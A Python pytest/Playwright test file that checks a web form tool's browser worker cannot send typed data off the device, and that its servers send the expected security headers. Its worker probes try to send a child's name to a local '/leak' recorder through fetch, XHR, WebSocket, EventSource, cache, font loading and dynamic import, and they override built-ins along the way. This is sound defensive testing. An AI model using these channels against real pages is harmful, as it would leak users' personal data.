"""Nothing typed leaves the device, whatever runs in the worker: the worker refuses requests
to other origins itself, and the server sends the policy as headers, so it reaches the worker
and forbids framing.

The other origin here is a real server on another port that records every request: a
request that left the browser would be seen.
"""

from __future__ import annotations

import functools
import http.server
import threading
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Iterator
from email.message import Message
from pathlib import Path
from typing import ClassVar

import pytest
from playwright.sync_api import Browser, Page, Route
from scripts import check_deployment

from .test_runtime import wait_for_precache, wait_ready


class Recorder(http.server.BaseHTTPRequestHandler):
    seen: ClassVar[list[str]] = []

    #: A page this other site serves that tries to frame ours (``/frame?src=URL``).
    frame_page = "<!doctype html><title>Other site</title><iframe src='{src}'></iframe>"

    def do_GET(self) -> None:
        if self.path.startswith("/frame?src="):
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            src = urllib.parse.unquote(self.path.split("=", 1)[1])
            self.wfile.write(self.frame_page.format(src=src).encode())
            return
        Recorder.seen.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        self.wfile.write(b"ok")

    do_POST = do_GET  # noqa: N815

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def other_origin() -> Iterator[str]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()


def without_policy_header(route: Route) -> None:
    """As a host that sends no headers: the worker's script arrives with no policy."""
    response = route.fetch()
    kept = {k: v for k, v in response.headers.items() if k.lower() != "content-security-policy"}
    route.fulfill(response=response, headers=kept)


SERVERS = ["development server", "nginx"]


@pytest.fixture(params=SERVERS)
def server_url(request: pytest.FixtureRequest) -> str:
    """The site under ``make serve``'s server, and under nginx with the shipped configuration."""
    url: str = request.getfixturevalue("base_url" if request.param == SERVERS[0] else "nginx_url")
    return url


@pytest.fixture(params=["with the policy header", "on a host that sends no headers"])
def open_page(request: pytest.FixtureRequest, browser: Browser, server_url: str) -> Iterator[Page]:
    # No routing to other origins here: what the browser sends really goes out.
    ctx = browser.new_context(base_url=server_url, service_workers="block")
    if request.param != "with the policy header":
        ctx.route("**/assets/csprcore/worker.js*", without_policy_header)
    page = ctx.new_page()
    yield page
    ctx.close()


def test_the_worker_cannot_reach_another_origin(open_page: Page, other_origin: str) -> None:
    page = open_page
    page.goto("tools/referral-form/")
    wait_ready(page)
    (worker,) = [w for w in page.workers if "/assets/csprcore/worker.js" in w.url]
    Recorder.seen.clear()
    secret = f"{other_origin}/leak?child=Zo%C3%AB"
    outcomes = worker.evaluate(
        """async (url) => {
          const out = {};
          try { await fetch(url); out.fetch = "sent"; } catch (e) { out.fetch = "blocked"; }
          try { await fetch(new Request(url)); out.request = "sent"; }
          catch (e) { out.request = "blocked"; }
          try { const x = new XMLHttpRequest(); x.open("GET", url, false); x.send();
                out.xhr = "sent"; } catch (e) { out.xhr = "blocked"; }
          try { new WebSocket(url.replace("http", "ws")); out.ws = "sent"; }
          catch (e) { out.ws = "blocked"; }
          try { new EventSource(url); out.es = "sent"; } catch (e) { out.es = "blocked"; }
          const cache = await caches.open("probe");
          try { await cache.add(url); out.cacheAdd = "sent"; }
          catch (e) { out.cacheAdd = "blocked"; }
          try { await cache.addAll([url]); out.cacheAddAll = "sent"; }
          catch (e) { out.cacheAddAll = "blocked"; }
          try { Cache.prototype.add = () => Promise.resolve(); } catch (e) {}
          try { await cache.add(new Request(url)); out.cacheRestored = "sent"; }
          catch (e) { out.cacheRestored = "blocked"; }
          await caches.delete("probe");
          try { await new FontFace("x", `url(${url}&font)`).load(); out.font = "sent"; }
          catch (e) { out.font = "blocked"; }
          try { self.fetch = () => 0; } catch (e) {}
          try { await self.fetch(url); out.restored = "sent"; }
          catch (e) { out.restored = "blocked"; }
          // Its own origin still works (the rule core's files come from it).
          out.own = (await fetch("../../pyodide/csprcore-runtime.json")).ok;
          return out;
        }""",
        secret,
    )
    assert outcomes == {"fetch": "blocked", "request": "blocked", "xhr": "blocked",
                        "ws": "blocked", "es": "blocked", "restored": "blocked",
                        "cacheAdd": "blocked", "cacheAddAll": "blocked",
                        "cacheRestored": "blocked", "font": "blocked", "own": True}  # fmt: skip
    page.wait_for_timeout(500)
    assert Recorder.seen == []
    # The rule core still answers after all that.
    page.locator("[name='referrer.name']").fill("Zoë")
    page.get_by_role("button", name="Check your answers").click()
    page.locator("[data-error-summary]").wait_for()


def test_a_dynamic_import_is_stopped_by_the_header(
    browser: Browser, server_url: str, other_origin: str
) -> None:
    """What the worker cannot refuse itself (a dynamic import()), the host's policy header
    does: the reason the Publishing page asks for a host that sends the headers."""
    ctx = browser.new_context(base_url=server_url, service_workers="block")
    try:
        page = ctx.new_page()
        page.goto("tools/referral-form/")
        wait_ready(page)
        (worker,) = [w for w in page.workers if "/assets/csprcore/worker.js" in w.url]
        Recorder.seen.clear()
        outcome = worker.evaluate(
            """async (url) => {
              try { await import(url); return "sent"; } catch (e) { return "blocked"; }
            }""",
            f"{other_origin}/leak.mjs?child=Zo%C3%AB",
        )
        assert outcome == "blocked"
        page.wait_for_timeout(300)
        assert Recorder.seen == []
    finally:
        ctx.close()


def headers(url: str, **sent: str) -> tuple[Message, bytes]:
    """The response's headers (read case-insensitively) and its body."""
    with urllib.request.urlopen(urllib.request.Request(url, headers=sent)) as response:
        return response.headers, response.read()


@pytest.mark.parametrize(
    "path",
    ["", "tools/referral-form/", "assets/csprcore/worker.js", "pyodide/pyodide.asm.wasm",
     "sw.js", "404.html"],
)  # fmt: skip
def test_the_server_sends_the_policy(server_url: str, path: str) -> None:
    sent, body = headers(server_url + path)
    policy = sent["Content-Security-Policy"]
    assert "frame-ancestors 'none'" in policy
    assert "connect-src 'self'" in policy and "default-src 'self'" in policy
    assert "unsafe-eval" not in policy.replace("wasm-unsafe-eval", "")
    assert sent["X-Content-Type-Options"] == "nosniff"
    assert sent["Referrer-Policy"] == "no-referrer"
    assert "camera=()" in sent["Permissions-Policy"]
    if path.endswith(".wasm"):
        assert sent["Content-Type"] == "application/wasm"
    if path in ("", "tools/referral-form/", "404.html"):
        # A page's header carries the same hashes as its tag, so its inline scripts run.
        html = body.decode("utf-8")
        meta = html.split('http-equiv="Content-Security-Policy" content="', 1)[1].split('"')[0]
        tag = dict(d.split(" ", 1) for d in meta.split("; "))
        header = dict(d.split(" ", 1) for d in policy.split("; "))
        # The header allows at least what the page's tag allows (a browser applies both).
        assert set(tag["script-src"].split()) <= set(header["script-src"].split())
        assert {k: v for k, v in tag.items() if k != "script-src"}.items() <= header.items()
        assert sent["Cache-Control"] == "no-cache"


@pytest.mark.parametrize("path", ["assets/csprcore/worker.js", "pyodide/pyodide.asm.wasm",
                                  "tools/referral-form/"])  # fmt: skip
def test_nginx_compresses_text_and_the_runtime(nginx_url: str, path: str) -> None:
    sent, body = headers(nginx_url + path, **{"Accept-Encoding": "gzip"})
    assert sent["Content-Encoding"] == "gzip"
    assert body[:2] == b"\x1f\x8b"


def test_nginx_serves_the_not_found_page_with_its_policy(nginx_url: str) -> None:
    try:
        headers(nginx_url + "no/such/page/")
    except urllib.error.HTTPError as error:
        assert error.code == 404
        assert "frame-ancestors 'none'" in error.headers["Content-Security-Policy"]
        assert "404" in error.read().decode()
    else:
        raise AssertionError("a missing page was found")


def test_under_nginx_the_tools_work_offline_after_one_visit(
    browser: Browser, nginx_url: str
) -> None:
    ctx = browser.new_context(service_workers="allow")
    try:
        page = ctx.new_page()
        page.goto(nginx_url + "tools/criteria-checker/")
        wait_ready(page)
        wait_for_precache(page)
        ctx.set_offline(True)
        page.reload()
        wait_ready(page)
        page.locator("input[name='harm'][value='died']").check()
        page.locator("[data-conclusion][data-value]").first.wait_for()
    finally:
        ctx.close()


def test_the_deployment_check_passes_nginx_and_names_what_a_bare_host_lacks(
    nginx_url: str, site_dir: Path
) -> None:
    assert check_deployment.problems(nginx_url) == []
    # A host that sends no headers (Python's plain static server): each gap is named.
    bare = http.server.ThreadingHTTPServer(
        ("127.0.0.1", 0),
        functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(site_dir)),
    )
    threading.Thread(target=bare.serve_forever, daemon=True).start()
    try:
        found = check_deployment.problems(f"http://127.0.0.1:{bare.server_address[1]}/")
    finally:
        bare.shutdown()
    assert any("no Content-Security-Policy header" in p for p in found)
    assert any("X-Content-Type-Options is None" in p for p in found)


def test_another_site_cannot_frame_the_forms(
    browser: Browser, server_url: str, other_origin: str
) -> None:
    ctx = browser.new_context(service_workers="block")
    try:
        page = ctx.new_page()
        target = urllib.parse.quote(server_url + "tools/referral-form/", safe="")
        with page.expect_console_message(lambda m: "frame-ancestors" in m.text) as refused:
            page.goto(f"{other_origin}/frame?src={target}")
        assert "The request has been blocked" in refused.value.text
        (frame,) = [f for f in page.frames if f != page.main_frame]
        assert frame.evaluate("() => !document.querySelector('#csprcore-tool')")
    finally:
        ctx.close()
